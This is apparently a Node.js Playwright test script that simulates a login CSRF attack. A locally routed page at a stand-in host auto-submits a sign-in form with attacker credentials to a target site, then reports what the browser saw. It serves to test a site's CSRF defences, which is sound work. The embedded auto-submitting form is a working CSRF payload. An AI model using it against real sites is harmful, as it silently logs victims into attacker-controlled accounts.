// Login CSRF, as an attacker would try it: a page on another site (http://evil.test, served
// by Playwright) auto-submits a sign-in form to <site>/login with the attacker's account.
// Then the visitor opens <site>/app. Reports what the browser saw as one JSON line.
//
//   node login-csrf.mjs <site-base-url> <username> <password>
import { chromium } from 'playwright-core';

const [site, username, password] = process.argv.slice(2);
if (!site || !username || !password) {
  console.error('usage: node login-csrf.mjs <site-base-url> <username> <password>');
  process.exit(2);
}

const attack = `<!doctype html><html><body>
<form id="f" method="post" action="${site}/login">
<input name="username" value="${username}"><input name="password" value="${password}">
<input name="redirect" value="/app">
</form><script>document.getElementById('f').submit()</script></body></html>`;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  args: [
    '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
    '--disable-background-networking', '--disable-component-update', '--disable-sync',
  ],
});
const report = {};
try {
  const page = await browser.newPage();
  await page.route('http://evil.test/**', (route) =>
    route.fulfill({ status: 200, contentType: 'text/html', body: attack }));
  const posted = page.waitForResponse((r) => r.url().startsWith(`${site}/login`)
    && r.request().method() === 'POST');
  await page.goto('http://evil.test/win-a-prize');
  const answer = await posted;
  report.post_status = answer.status();
  await page.waitForLoadState();
  report.cookies = (await page.context().cookies()).map((c) => c.name);

  await page.goto(`${site}/app`);
  report.app_url = page.url();
  report.app_title = await page.title();
  report.user = await (await page.$('#user'))?.textContent() ?? null;
} finally {
  await browser.close();
}
console.log(JSON.stringify(report));
